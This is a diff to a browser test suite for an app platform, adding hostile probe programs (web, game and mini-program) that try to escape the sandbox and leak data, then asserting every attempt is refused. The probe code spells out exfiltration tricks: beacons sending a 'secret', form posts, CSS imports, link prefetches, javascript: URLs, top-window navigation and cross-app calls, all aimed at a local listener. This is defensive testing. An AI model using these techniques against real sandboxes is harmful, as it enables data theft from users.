@@ -32,19 +32,115 @@ const tries = {
 	image: () => new Promise((done, failed) => { const i = new Image(); i.onload = () => done("an image"); i.onerror = failed; i.src = LEAK + "image" }),
 	script: () => new Promise((done, failed) => { const s = document.createElement("scr" + "ipt"); s.onload = () => done("a script"); s.onerror = failed; s.src = LEAK + "script"; document.head.append(s) }),
 	frame: () => new Promise((done, failed) => { const f = document.createElement("iframe"); f.onload = () => { try { done(f.contentWindow.document.title + "a frame") } catch (e) { failed(e) } }; f.src = LEAK + "frame"; document.body.append(f); setTimeout(failed, 1500) }),
+	emptyFrame: () => { const f = document.createElement("iframe"); document.body.append(f); return typeof f.contentWindow.RTCPeerConnection === "function" && "a connection" },
+	inlineScript: () => { const s = document.createElement("scr" + "ipt"); s.text = "self.ran = 'it ran'"; document.head.append(s); return self.ran },
+	handler: () => new Promise((done) => { const i = document.createElement("img"); i.setAttribute("oner" + "ror", "self.handled = 'it ran'"); i.src = "data:,"; document.body.append(i); setTimeout(() => done(self.handled), 200) }),
+	address: () => new Promise((done) => { const a = document.createElement("a"); a.setAttribute("href", "javascr" + "ipt:self.addressed='it ran'"); document.body.append(a); a.click(); setTimeout(() => done(self.addressed), 200) }),
+	worker: () => new Promise((done, failed) => { const w = new Worker(URL.createObjectURL(new Blob(["postMessage('a worker')"]))); w.onmessage = (e) => done(e.data); w.onerror = failed; setTimeout(failed, 1000) }),
+	events: () => new Promise((done, failed) => { const e = new EventSource(LEAK + "events"); e.onopen = () => done("a stream"); e.onerror = failed }),
+	topMove: () => { top.location.href = LEAK + "top"; return "it moved" },
+	// What these send would be heard on the other side.
+	beacon: () => { navigator.sendBeacon(LEAK + "beacon", "secret") },
+	form: () => { const f = document.createElement("form"); f.action = LEAK + "form"; f.method = "post"; document.body.append(f); f.submit() },
+	newTab: () => { const a = document.createElement("a"); a.href = LEAK + "tab"; a.target = "_blank"; document.body.append(a); a.click() },
+	sheet: () => { const s = document.createElement("style"); s.textContent = "@import '" + LEAK + "import'; body { background: url(" + LEAK + "background) }"; document.head.append(s) },
+	linked: () => { for (const rel of ["stylesheet", "icon", "prefetch", "preload", "manifest", "preconnect"]) { const l = document.createElement("link"); l.rel = rel; l.as = "image"; l.href = LEAK + rel; document.head.append(l) } },
+}
+// Answers what each attempt got.
+async function tryAll() {
+	const results = []
+	for (const name of Object.keys(tries)) {
+		let got = "refused"
+		try { const answer = await tries[name](); if (answer) got = "GOT " + answer } catch (error) {}
+		results.push({ name, got })
+	}
+	return results
 }
 `
+
+// A program without WXML writes down what it got by itself.
+const writeDown = `
+	const list = document.createElement("ol")
+	list.id = "results"
+	for (const { name, got } of await tryAll()) list.append(Object.assign(document.createElement("li"), { textContent: name + ": " + got }))
+	document.body.append(list)
+`
+
+const manifest = (appid: string, more: object) =>
+	JSON.stringify({
+		app_id: appid,
+		name: appid,
+		version: { code: 1, name: "1" },
+		platform_version: { min_code: 1 },
+		icons: [],
+		...more,
+	})
+
+/** A web program: it has documents and scripts of its own, and a realm of its own would be worth a lot to it. */
+function page(leak: string): Record<string, string> {
+	return {
+		"manifest.json": manifest("web-prober", { x_plaza: { kind: "web" } }),
+		"index.html": `<!doctype html><title>Prober</title><body><a href="about.html">leave</a> <a href="#results">stay</a> <script src="probe.js"></script>`,
+		"about.html": "<!doctype html><title>About</title>",
+		"fresh.js": `parent.postMessage({ realm: typeof RTCPeerConnection }, "*")`,
+		"probe.js": `
+const LEAK = ${JSON.stringify(leak)}
+${attempts}
+Object.assign(tries, {
+	module: () => import(LEAK + "module").then(() => "a module"),
+	realm: () => new Promise((done, failed) => {
+		addEventListener("message", ({ data }) => { if (data.realm) done(data.realm === "function" && "a connection") })
+		const f = document.createElement("iframe")
+		f.srcdoc = "<scr" + "ipt src=fresh.js></scr" + "ipt>"
+		document.body.append(f)
+		setTimeout(failed, 1500)
+	}),
+	hostPort: () => new Promise((done, failed) => { addEventListener("message", ({ ports, data }) => { if (ports.length || data.storage) done("the port") }); setTimeout(failed, 500) }),
+	otherProgram: () => plaza.call("orders." + "list", {}).then(() => "orders"),
+})
+async function start() {
+	await plaza.ready()
+${writeDown}
+}
+start()`,
+	}
+}
+
+/** A game: one script that has the whole document. */
+function game(leak: string): Record<string, string> {
+	return {
+		"manifest.json": manifest("game-prober", { x_plaza: { kind: "game" } }),
+		"game.json": "{}",
+		"game.js": `
+const LEAK = ${JSON.stringify(leak)}
+${attempts}
+const canvas = wx.createCanvas()
+async function start() {
+${writeDown}
+}
+start()`,
+	}
+}
+
+/** Somebody else's machine, and what it hears. */
+async function listener(): Promise<{ heard: string[]; address: string; close: () => void }> {
+	const heard: string[] = []
+	const server = createServer((request, response) => {
+		heard.push(request.url ?? "")
+		response.setHeader("Access-Control-Allow-Origin", "*")
+		response.end("ok")
+	})
+	server.on("connection", () => heard.push("a connection"))
+	await new Promise<void>((done) => server.listen(0, "127.0.0.1", done))
+	const { port } = server.address() as AddressInfo
+	return { heard, address: `http://127.0.0.1:${port}/`, close: () => server.close() }
+}
 
 function project(leak: string, leave: boolean): Record<string, string> {
 	return {
 		"app.json": JSON.stringify({ pages: ["pages/probe/probe"] }),
 		"app.js": "App({})",
-		"manifest.json": JSON.stringify({
-			app_id: leave ? "leaver" : "prober",
-			name: leave ? "Leaver" : "Prober",
-			version: { code: 1, name: "1" },
-			platform_version: { min_code: 1 },
-			icons: [],
+		"manifest.json": manifest(leave ? "leaver" : "prober", {
 			pages: ["pages/probe/probe"],
 			x_plaza: { functions: leave ? [] : ["bomb", "good"] },
 		}),
@@ -56,12 +152,7 @@ Page({
 	data: { results: [], done: false },
 	async onReady() {
 		if (${leave}) { setTimeout(() => { location.href = LEAK + "navigation?secret=1" }, 300); return }
-		const results = []
-		for (const name of Object.keys(tries)) {
-			let got = "refused"
-			try { const answer = await tries[name](); if (answer !== undefined && answer !== null && answer !== "") got = "GOT " + answer } catch (error) {}
-			results.push({ name, got })
-		}
+		const results = await tryAll()
 		for (const name of ["bomb", "good"]) {
 			await wx.cloud.callFunction({ name, data: {} }).then(
 				(answer) => results.push({ name, got: JSON.stringify(answer.result) }),
@@ -85,14 +176,7 @@ test("a hostile page is refused everything, and its bomb harms nobody", async ({
 	browser,
 	plaza,
 }) => {
-	const heard: string[] = []
-	const leak = createServer((request, response) => {
-		heard.push(request.url ?? "")
-		response.setHeader("Access-Control-Allow-Origin", "*")
-		response.end("ok")
-	})
-	await new Promise<void>((done) => leak.listen(0, "127.0.0.1", done))
-	const address = `http://127.0.0.1:${(leak.address() as AddressInfo).port}/`
+	const { heard, address, close } = await listener()
 	await plaza.publish("prober", project(address, false))
 	await plaza.publish("leaver", project(address, true))
 
@@ -114,5 +198,59 @@ test("a hostile page is refused everything, and its bomb harms nobody", async ({
 	await page.goto(`${plaza.url}/p/leaver`)
 	await expect(page.getByRole("button", { name: /try again/i })).toBeVisible({ timeout: 20_000 })
 	expect(heard).toEqual([])
-	leak.close()
+	close()
 })
+
+// The other kinds bring documents and scripts of their own. What confines an app confines them, too.
+for (const { kind, files } of [
+	{ kind: "web", files: page },
+	{ kind: "game", files: game },
+]) {
+	test(`a hostile ${kind} program is refused everything`, async ({ browser, plaza }) => {
+		const { heard, address, close } = await listener()
+		await plaza.publish(`${kind}-prober`, files(address))
+		const page = await (await browser.newContext(phone)).newPage()
+		await signIn(page, `${plaza.url}/sign-in`, "person")
+		await page.goto(`${plaza.url}/p/${kind}-prober`)
+		const frame = page.frameLocator("iframe")
+		await expect(frame.locator("#results")).toBeAttached({ timeout: 40_000 })
+		const results = await frame.locator("#results li").allInnerTexts()
+		expect(results.length).toBeGreaterThan(30)
+		for (const line of results) expect(line, line).toMatch(/: refused$/)
+		expect(page.url()).toBe(`${plaza.url}/p/${kind}-prober`)
+		expect(page.context().pages()).toHaveLength(1)
+		if (kind === "web") {
+			// A link to another document does nothing; one to a place in this document works.
+			await frame.getByText("leave").click()
+			await frame.getByText("stay").click()
+			await expect(frame.locator("#results:target")).toBeAttached()
+		}
+		expect(heard).toEqual([])
+		close()
+	})
+}
+
+// A page that cannot even start says so, and the person gets out.
+for (const { kind, files } of [
+	{
+		kind: "web",
+		files: { "index.html": "<!doctype html><script src=a.js></script>", "a.js": "missing()" },
+	},
+	{ kind: "game", files: { "game.json": "{}", "game.js": "missing()" } },
+]) {
+	test(`a ${kind} program that breaks at its start shows the crash page`, async ({
+		browser,
+		plaza,
+	}) => {
+		const appid = `broken-${kind}`
+		await plaza.publish(appid, {
+			...files,
+			"manifest.json": manifest(appid, { x_plaza: { kind } }),
+		})
+		const page = await (await browser.newContext(phone)).newPage()
+		await signIn(page, `${plaza.url}/sign-in`, "person")
+		await page.goto(`${plaza.url}/p/${appid}`)
+		await expect(page.getByRole("button", { name: /try again/i })).toBeVisible()
+		await expect(page.locator("iframe")).toHaveCount(0)
+	})
+}
